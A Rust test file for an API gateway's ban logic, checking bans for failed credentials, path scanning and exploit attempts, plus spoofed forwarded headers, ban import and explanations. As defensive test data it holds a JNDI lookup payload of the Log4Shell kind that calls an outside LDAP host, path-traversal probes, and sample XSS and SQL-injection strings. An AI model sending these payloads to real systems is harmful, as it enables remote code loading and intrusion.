//! Bans: earned by the address that failed, told with the time that is left, and not shared by its honest neighbours.

use portcullis_testkit::tokens::SigningKey;
use portcullis_testkit::upstream::Upstream;
use portcullis_testkit::wait::{self, PATIENCE};
use portcullis_testkit::wire::{self, Answer, Conn};

use crate::harness::{AUTHENTICATED, Gateway, Site, bearer, claims, of_kind, portcullis};

const BANS: &str = r#"
[[network]]
name = "monitoring"
addresses = ["127.0.0.100"]
[ban]
never = ["monitoring"]
first = "10m"
credentials = { level = 5, half = "2m" }
"#;

struct World {
    gateway: Gateway,
    upstream: Upstream,
    key: String,
}

fn world(bans: &str, config: &str) -> World {
    let upstream = Upstream::start();
    let mut site = Site::new(&upstream.url());
    let key = site.key("alice", "user:alice", "");
    site.add(config);
    site.policy(&[AUTHENTICATED, bans].concat());
    World { gateway: site.start(), upstream, key }
}

impl World {
    fn good(&self, source: &str) -> Answer {
        self.gateway.get_from(source, "/", &[("X-Api-Key", &self.key)])
    }

    fn bad(&self, source: &str) -> Answer {
        self.gateway.get_from(source, "/", &[("X-Api-Key", "pcl_alice_guess")])
    }

    /// Fails until the address has earned its ban.
    fn fail_five_times(&self, source: &str) {
        for attempt in 1..=5 {
            self.gateway.check_refused(&format!("attempt {attempt}"), &self.bad(source), 401, "authn.invalid");
        }
    }

    fn check_banned(&self, what: &str, answer: &Answer) {
        let event = self.gateway.check_refused(what, answer, 403, "ban.active");
        let left: u64 = answer.header("retry-after").expect("a ban says how long").parse().unwrap();
        // Ten minutes, give or take a tenth: nobody can foretell the second at which a ban ends.
        assert!((539..=661).contains(&left), "{what}: {left} s");
        assert_eq!(event["remedy"]["retry_after_s"], left, "{what}");
        assert_eq!(event["ban"]["active"], true, "{what}");
        assert!(event["ban"]["until"].is_string(), "{what}");
    }
}

#[test]
fn five_bad_credentials_ban_the_address_and_no_other() {
    let world = world(BANS, "");
    world.fail_five_times("127.0.0.9");
    world.check_banned("a bad credential", &world.bad("127.0.0.9"));
    world.check_banned("no credential", &world.gateway.get_from("127.0.0.9", "/", &[]));
    // The whole address, since nobody was ever let in from there.
    world.check_banned("a good credential", &world.good("127.0.0.9"));
    assert_eq!(world.good("127.0.0.10").status(), 200, "the neighbour");
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(1.0));
    assert_eq!(world.upstream.requests().len(), 1);
    let events = world.gateway.stop();
    let [created] = of_kind(&events, "ban.created")[..] else { panic!("{events:#?}") };
    assert_eq!((&created["client"]["ip"], &created["severity"]), (&"127.0.0.9".into(), &"high".into()));
    assert!(created["message"].as_str().unwrap().contains("credentials"), "{created:#}");
    assert_eq!(created["ban"]["active"], true);
}

#[test]
fn who_was_let_in_from_the_address_stays_in() {
    let world = world(BANS, "");
    assert_eq!(world.good("127.0.0.20").status(), 200);
    world.fail_five_times("127.0.0.20");
    world.check_banned("a bad credential", &world.bad("127.0.0.20"));
    world.check_banned("no credential", &world.gateway.get_from("127.0.0.20", "/", &[]));
    for _ in 0..3 {
        assert_eq!(world.good("127.0.0.20").status(), 200, "a verified principal shares the address, not the ban");
    }
}

#[test]
fn good_requests_and_forgetful_callers_earn_no_ban() {
    let world = world(BANS, "");
    for _ in 0..20 {
        assert_eq!(world.good("127.0.0.30").status(), 200);
        world.gateway.check_refused(
            "no credential",
            &world.gateway.get_from("127.0.0.31", "/", &[]),
            401,
            "authn.missing",
        );
    }
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
}

#[test]
fn some_networks_are_never_banned() {
    let world = world(BANS, "");
    for attempt in 0..12 {
        world.gateway.check_refused(&format!("attempt {attempt}"), &world.bad("127.0.0.100"), 401, "authn.invalid");
    }
    assert!(of_kind(&world.gateway.stop(), "ban.created").is_empty());
}

#[test]
fn nobody_can_aim_a_ban_at_a_third_party() {
    let world = world(BANS, "[client_address]\ntrusted_proxies = [\"127.0.0.50\"]\n");
    let victim = ("X-Forwarded-For", "198.51.100.7");
    for _ in 0..8 {
        let lie = world.gateway.get_from("127.0.0.40", "/", &[("X-Api-Key", "pcl_guess"), victim]);
        assert!(matches!(lie.status(), 401 | 403));
    }
    assert_eq!(world.gateway.get_from("127.0.0.50", "/", &[("X-Api-Key", &world.key), victim]).status(), 200);
    let liar = world.gateway.get_from("127.0.0.40", "/", &[]);
    world.check_banned("the liar", &liar);
    // Through the trusted proxy it is the named client that fails, not the proxy.
    for _ in 0..5 {
        world.gateway.get_from("127.0.0.50", "/", &[("X-Api-Key", "pcl_guess"), ("X-Forwarded-For", "198.51.100.8")]);
    }
    world.check_banned("named", &world.gateway.get_from("127.0.0.50", "/", &[("X-Forwarded-For", "198.51.100.8")]));
    assert_eq!(world.good("127.0.0.50").status(), 200);
    assert_eq!(world.gateway.get_from("127.0.0.50", "/", &[("X-Api-Key", &world.key), victim]).status(), 200);
}

#[test]
fn probing_many_paths_bans_and_a_ban_ends() {
    let world =
        world("[ban]\nfirst = \"1s\"\nlongest = \"1s\"\nprobing = { level = 4, ratio = \"25%\", half = \"5m\" }\n", "");
    let mut refused = 0;
    let banned = (0..40).any(|number| {
        // An absent route is what scanners meet; here each path is refused for its form.
        let answer = world.gateway.get_from("127.0.0.60", &format!("/{number}/..;/admin"), &[]);
        refused += 1;
        answer.status() == 400 && world.gateway.get_from("127.0.0.60", "/", &[]).status() == 403
    });
    assert!(banned, "{refused} probes earned no ban");
    assert!(refused >= 4, "{refused} probes are too few for a ban");
    let again =
        wait::until(PATIENCE, || (world.gateway.get_from("127.0.0.60", "/", &[]).status() == 401).then_some(()));
    assert!(again.is_some(), "the ban does not end");
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
}

#[test]
fn a_simulated_ban_is_only_reported() {
    let world = world("[ban]\nmode = \"simulate\"\n", "");
    for _ in 0..8 {
        world.gateway.check_refused("simulated", &world.bad("127.0.0.70"), 401, "authn.invalid");
    }
    let events = world.gateway.stop();
    assert_eq!(of_kind(&events, "ban.created").len(), 1);
    assert!(of_kind(&events, "access.denied").iter().all(|event| event["ban"]["active"] == false));
}

#[test]
fn an_exploit_bans_at_once_and_a_search_about_one_does_not() {
    let world = world("", "");
    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
    world.gateway.check_refused(
        "the exploit",
        &world.gateway.get_from("127.0.0.71", exploit, &[]),
        401,
        "authn.missing",
    );
    world.check_banned("what follows", &world.gateway.get_from("127.0.0.71", "/", &[]));
    // In a header, of a request that is let in.
    let agent = ("User-Agent", "${jndi:ldap://198.51.100.1/x}");
    assert_eq!(world.gateway.get_from("127.0.0.72", "/", &[("X-Api-Key", &world.key), agent]).status(), 200);
    let banned = world.gateway.get_from("127.0.0.72", "/", &[("X-Api-Key", &world.key)]);
    world.check_banned("the principal that sent it", &banned);
    let events = world.gateway.stop();
    let causes: Vec<_> = of_kind(&events, "ban.created").iter().map(|event| event["message"].to_string()).collect();
    let [of_address, of_principal] = &causes[..] else { panic!("{causes:#?}") };
    assert!(
        of_address.contains("signatures: level 3.0 of 2.5 in the last 5m, the last one: jndi lookup"),
        "{of_address}"
    );
    assert!(of_principal.starts_with("\"user:alice is banned"), "{of_principal}");
}

/// Nobody sends that by accident: one request bans.
const EXPLOIT: &str = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";

fn scope(gateway: &Gateway, on: &str) -> String {
    let (code, said, errors) = ask(gateway, &["-o", "json", "ban", "explain", "--ip", on]);
    assert_eq!(code, Some(0), "{errors}");
    let report: serde_json::Value = serde_json::from_str(&said).unwrap();
    report["bans"][0]["scope"].as_str().unwrap().to_owned()
}

/// A gateway that has just begun knows nobody, and a scanner is the first who comes.
#[test]
fn behind_a_shared_address_a_scanner_comes_first_and_nobody_with_a_credential_that_holds_is_refused() {
    const OFFICE: &str = "127.0.0.74";
    let upstream = Upstream::start();
    let mut site = Site::new(&upstream.url());
    let signer = SigningKey::es256("k");
    site.accept_tokens(&[&signer], "");
    let tokens = (0..15).map(|n| ("Authorization", bearer(&signer, &claims(&format!("user-{n}")))));
    let mut clients: Vec<(&str, String)> = tokens.collect();
    clients.extend((15..30).map(|n| ("X-Api-Key", site.key(&format!("k{n}"), &format!("user:user-{n}"), ""))));
    site.policy(AUTHENTICATED);
    let gateway = site.start();
    let scan = |n: u32| gateway.get_from(OFFICE, &format!("/{n}/..;/admin"), &[]);
    gateway.check_refused("the exploit", &gateway.get_from(OFFICE, EXPLOIT, &[]), 401, "authn.missing");
    gateway.check_refused("no credential", &gateway.get_from(OFFICE, "/", &[]), 403, "ban.active");
    assert_eq!(scope(&gateway, OFFICE), "address", "nobody else was seen there yet");
    let mut refused = 0;
    for round in 0..10_u32 {
        for (n, (header, credential)) in (0_u32..).zip(&clients) {
            scan(round * 100 + n);
            refused += usize::from(gateway.get_from(OFFICE, "/", &[(header, credential)]).status() != 200);
        }
    }
    assert_eq!(refused, 0, "of 300 good requests");
    assert_eq!(scope(&gateway, OFFICE), "anonymous");
    gateway.check_refused("no credential", &gateway.get_from(OFFICE, "/", &[]), 403, "ban.active");
    gateway.check_refused("a guess", &gateway.get_from(OFFICE, "/", &[("X-Api-Key", "pcl_guess")]), 403, "ban.active");
    assert_eq!(upstream.requests().len(), 300, "the scanner reached nothing");
}

/// What a ban saves is saved: a flood of credentials that do not hold is refused unseen.
#[test]
fn under_a_ban_for_something_else_only_so_many_credentials_are_looked_at() {
    const SOURCE: &str = "127.0.0.75";
    let world = world("", "");
    world.gateway.get_from(SOURCE, EXPLOIT, &[]);
    for _ in 0..40 {
        world.gateway.check_refused("a guess", &world.bad(SOURCE), 403, "ban.active");
    }
    world.check_banned("the right one, too late", &world.good(SOURCE));
    assert_eq!(scope(&world.gateway, SOURCE), "address");
    assert_eq!(world.good("127.0.0.76").status(), 200, "the neighbour");
    // By hand nobody is heard from the first.
    let (code, ..) = ask(&world.gateway, &["ban", "add", "--ip", "127.0.0.76", "--for", "1h", "--reason", "by hand"]);
    assert_eq!(code, Some(0));
    world.gateway.check_refused("by hand", &world.good("127.0.0.76"), 403, "ban.active");
}

/// A key that has leaked and is bound to another network is verified and refused: it shows nothing of who else comes from there.
#[test]
fn a_credential_that_holds_and_is_refused_narrows_no_ban() {
    const SOURCE: &str = "127.0.0.79";
    let upstream = Upstream::start();
    let mut site = Site::new(&upstream.url());
    let leaked = site.key("leaked", "user:mallory", "networks = [\"office\"]");
    let alice = site.key("alice", "user:alice", "");
    site.policy(&[AUTHENTICATED, "[[network]]\nname = \"office\"\naddresses = [\"127.0.0.200\"]\n"].concat());
    let gateway = site.start();
    let ask = |key: &str| gateway.get_from(SOURCE, "/", &[("X-Api-Key", key)]);
    gateway.get_from(SOURCE, EXPLOIT, &[]);
    for _ in 0..12 {
        gateway.check_refused("leaked", &ask(&leaked), 403, "rbac.condition_unmet");
    }
    assert_eq!(scope(&gateway, SOURCE), "address");
    assert_eq!(ask(&alice).status(), 200, "and takes none of the ten guesses");
    assert_eq!(scope(&gateway, SOURCE), "anonymous");
}

#[test]
fn who_tries_again_while_banned_is_free_when_the_ban_ends() {
    let world = world("[ban]\nfirst = \"4s\"\nlongest = \"4s\"\n", "");
    let gateway = &world.gateway;
    gateway.get_from("127.0.0.77", EXPLOIT, &[]);
    gateway.check_refused("banned", &gateway.get_from("127.0.0.77", "/", &[]), 403, "ban.active");
    // It retries as fast as it can, over many paths, with and without credentials, until something else is answered.
    let mut tries = 0;
    let free = wait::until(PATIENCE, || {
        tries += 1;
        let guess: &[(&str, &str)] = if tries % 2 == 0 { &[("X-Api-Key", "pcl_guess")] } else { &[] };
        let answer = gateway.get_from("127.0.0.77", &format!("/page/{tries}"), guess);
        (answer.status() != 403).then_some(())
    });
    assert!(free.is_some(), "the ban does not end");
    for page in 0..3 {
        let answer = gateway.get_from("127.0.0.77", &format!("/again/{page}"), &[]);
        gateway.check_refused("after it", &answer, 401, "authn.missing");
    }
    assert_eq!(gateway.metric("portcullis_bans_active"), Some(0.0), "after {tries} tries");
    assert_eq!(of_kind(&world.gateway.stop(), "ban.created").len(), 1);
}

/// A browser asks without a credential whether it may come with one.
#[test]
fn a_browsers_question_from_a_banned_address_is_answered_like_the_request_that_follows() {
    let upstream = Upstream::start();
    let mut site = Site::without_route(&upstream.url());
    site.add(
        "[[route]]\nname = \"app\"\nupstream = \"app\"\n\
         cors = { origins = [\"https://app.test\"], methods = [\"GET\"], headers = [\"x-api-key\"] }\n",
    );
    let key = site.key("alice", "user:alice", "");
    site.policy(AUTHENTICATED);
    let gateway = site.start();
    let preflight = |origin: &str| {
        let mut connection = Conn::open_from("127.0.0.78".parse().unwrap(), gateway.address);
        let headers = [("Origin", origin), ("Access-Control-Request-Method", "GET")];
        connection.send(wire::request("OPTIONS", "/", &headers, b""));
        connection.answer()
    };
    gateway.get_from("127.0.0.78", EXPLOIT, &[]);
    assert_eq!(preflight("https://app.test").status(), 204);
    gateway.check_refused("of elsewhere", &preflight("https://other.test"), 403, "ban.active");
    let from_browser = [("Origin", "https://app.test"), ("X-Api-Key", key.as_str())];
    assert_eq!(gateway.get_from("127.0.0.78", "/", &from_browser).status(), 200);
}

#[test]
fn a_verified_principal_may_look_for_what_an_attack_looks_like() {
    let world = world("", "");
    for query in ["%3Cscript%3E", "1%27+union+select+2", "%7B%7B7*7%7D%7D", "alert(1)"] {
        for _ in 0..3 {
            let target = format!("/search?q={query}");
            let answer = world.gateway.get_from("127.0.0.73", &target, &[("X-Api-Key", &world.key)]);
            assert_eq!(answer.status(), 200, "{query}");
        }
    }
    assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
}

/// A mistake in a rollout locks people out who do nothing wrong; their retries are no attack.
#[test]
fn what_our_own_change_refuses_is_held_against_nobody() {
    let office = "[[network]]\nname = \"office\"\naddresses = [\"127.0.0.80\"]\n";
    let closed = "[[resource]]\nroute = \"app\"\nnetworks = { allow = [\"office\"] }\n";
    let check = |before: &str| {
        let upstream = Upstream::start();
        let mut site = Site::new(&upstream.url());
        let key = site.key("alice", "user:alice", "");
        site.policy(before);
        let mut gateway = site.start();
        let reasons = |gateway: &Gateway, source: &str| -> Vec<String> {
            let ask = |n: u32| gateway.get_from(source, &format!("/page/{n}"), &[("X-Api-Key", &key)]);
            (0..30).map(|n| ask(n).json()["reason"].as_str().unwrap().to_owned()).collect()
        };
        gateway.site.policy(office);
        gateway.reload("ok");
        let by_grants = reasons(&gateway, "127.0.0.81");
        gateway.site.policy(&[AUTHENTICATED, office, closed].concat());
        gateway.reload("ok");
        (by_grants, reasons(&gateway, "127.0.0.82"))
    };
    let (by_grants, by_network) = check(AUTHENTICATED);
    assert_eq!(by_grants, vec!["rbac.no_matching_grant"; 30], "permitted before");
    assert_eq!(by_network, vec!["ip.not_allowed"; 30], "permitted before");
    let (by_grants, _) = check(office);
    assert!(by_grants.contains(&"ban.active".to_owned()), "refused before, too: who goes on is banned: {by_grants:?}");
}

fn ask(gateway: &Gateway, arguments: &[&str]) -> (Option<i32>, String, String) {
    let config = gateway.site.path("portcullis.toml");
    let finished = portcullis().arg("-c").arg(config).args(arguments).run(PATIENCE);
    (finished.status.code(), finished.stdout.join("\n"), finished.stderr.join("\n"))
}

#[test]
fn a_list_of_bans_is_imported_as_a_whole_or_not_at_all() {
    let world = world(BANS, "");
    let gateway = &world.gateway;
    let import = |content: &str, more: &[&str]| {
        gateway.site.file("list.txt", content);
        let list = gateway.site.path("list.txt");
        ask(gateway, &[&["ban", "import", list.to_str().unwrap()], more].concat())
    };
    let none = || assert_eq!(gateway.metric("portcullis_bans_active"), Some(0.0));
    // Mistakes are all told, with their places.
    let (code, _, said) = import("127.0.0.9\n127.0.0.300\n127.0.0.7/24, 1h\n", &["--for", "1h"]);
    assert_eq!(code, Some(3), "{said}");
    assert!(
        said.contains("list.txt:2:1: ") && said.contains("list.txt:3:1: ") && said.contains("nothing is imported"),
        "{said}"
    );
    none();
    // One that is never banned is as good as a mistake.
    let (code, _, said) = import("127.0.0.9\n127.0.0.100\n", &["--for", "1h"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("127.0.0.100: it is among") && said.contains("none is imported"), "{said}");
    none();
    let (code, said, _) = import("127.0.0.9\n", &["--for", "1h", "--dry-run"]);
    assert!(code == Some(0) && said.contains("1 bans would be imported"), "{said}");
    none();
    let rows = "address,for,reason\n127.0.0.9,1h,\"guesses, ticket 4711\"\n127.0.3.0/24,2h,\n";
    let (code, said, errors) = import(rows, &["--reason", "list of the month"]);
    assert_eq!((code, said.as_str()), (Some(0), "2 bans of 2 are imported from list.txt"), "{errors}");
    for source in ["127.0.0.9", "127.0.3.77"] {
        gateway.check_refused(source, &world.good(source), 403, "ban.active");
    }
    assert_eq!(world.good("127.0.0.10").status(), 200, "the neighbour");
    // Again: nothing is shortened.
    let (code, said, _) = import("127.0.0.9,30m\n127.0.0.11,30m\n", &[]);
    assert_eq!(
        (code, said.as_str()),
        (Some(0), "1 bans of 2 are imported from list.txt; the others are in force for longer")
    );
    let events = world.gateway.stop();
    let messages: Vec<_> = of_kind(&events, "admin.ban_add").iter().map(|event| event["message"].to_string()).collect();
    assert_eq!(messages.len(), 3, "{messages:#?}");
}

#[test]
fn a_ban_is_explained_with_what_led_to_it_and_what_ends_it() {
    let world = world(BANS, "");
    assert_eq!(world.good("127.0.0.20").status(), 200);
    world.fail_five_times("127.0.0.20");
    let (code, said, _) = ask(&world.gateway, &["ban", "explain", "--ip", "127.0.0.20"]);
    assert_eq!(code, Some(0), "{said}");
    for part in [
        "credentials: 5 failed in the last 2m",
        "without a credential that holds; who has one is let in",
        "ends by itself at",
        "lift it with: portcullis ban remove --ip 127.0.0.20",
        "1.0 offences are not forgotten, half of them will be in 7d: the next one would be a ban of about 20m",
        "authn.invalid",
    ] {
        assert!(said.contains(part), "{part}: {said}");
    }
    assert_eq!(ask(&world.gateway, &["ban", "explain", "--ip", "127.0.0.21"]).0, Some(1), "nobody is banned there");
}

/// Principals are banned one after the other, until they are too many.
#[test]
fn a_mistake_bans_only_so_many_of_those_who_are_known() {
    let upstream = Upstream::start();
    let mut site = Site::new(&upstream.url());
    let keys: Vec<String> = (0..6).map(|n| site.key(&format!("k{n}"), &format!("user:u{n}"), "")).collect();
    // What everybody may not do any more, though nobody has done anything wrong: the policy has never said otherwise.
    let policy = "[[deny]]\nname = \"mistake\"\nprincipals = [\"authenticated\"]\nactions = [\"GET /page/**\"]\nscope = \"*\"\n\
                  [ban]\nblast_radius = { bans = 2, share = \"0%\" }\n";
    site.policy(&[AUTHENTICATED, policy].concat());
    let gateway = site.start();
    for key in &keys {
        for page in 0..8 {
            gateway.get_from("127.0.0.90", &format!("/page/{page}"), &[("X-Api-Key", key)]);
        }
    }
    let refused: Vec<bool> =
        keys.iter().map(|key| gateway.get_from("127.0.0.90", "/ok", &[("X-Api-Key", key)]).status() == 403).collect();
    assert_eq!(refused, [true, true, false, false, false, false]);
    assert_eq!(gateway.metric("portcullis_bans_held_back_total"), Some(4.0));
    let events = gateway.stop();
    let created = of_kind(&events, "ban.created");
    let held: Vec<bool> =
        created.iter().map(|event| event["message"].as_str().unwrap().contains("held back")).collect();
    assert_eq!(held, [false, false, true, true, true, true]);
    assert!(created[5]["message"].as_str().unwrap().starts_with("user:u5 would be banned until"), "{:#}", created[5]);
}
